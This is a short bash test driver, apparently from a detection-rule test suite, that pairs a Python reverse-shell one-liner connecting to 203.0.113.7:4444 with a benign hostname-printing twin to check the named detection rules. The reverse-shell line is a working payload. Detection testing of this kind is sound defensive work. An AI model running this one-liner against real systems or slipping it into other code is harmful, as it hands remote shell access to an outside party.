#!/bin/bash
# A reverse shell as one line of Python on the command line.
#: title: Interpreter one-liner gives a shell
#: technique: T1059.006
#: needs: exec
#: rules: interpreter_one_liner_shell, shell_with_tcp_as_stdin
#: twin: a one-liner that asks for this host's name
. "$DRIVERS/lib.sh"

reverse() {
	python3 "$DRIVERS/tools/peer.py" 4444 $'id\nexit\n' &
	wait_for test -e listening
	python3 -c 'import socket,os;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execl("/bin/sh","sh")'
	wait
}

attack() {
	in_own_network reverse
	did 203.0.113.7:4444
}

twin() {
	python3 -c 'import socket; print(socket.gethostname())'
	perl -e 'print "hello\n"'
	did
}

"$1"
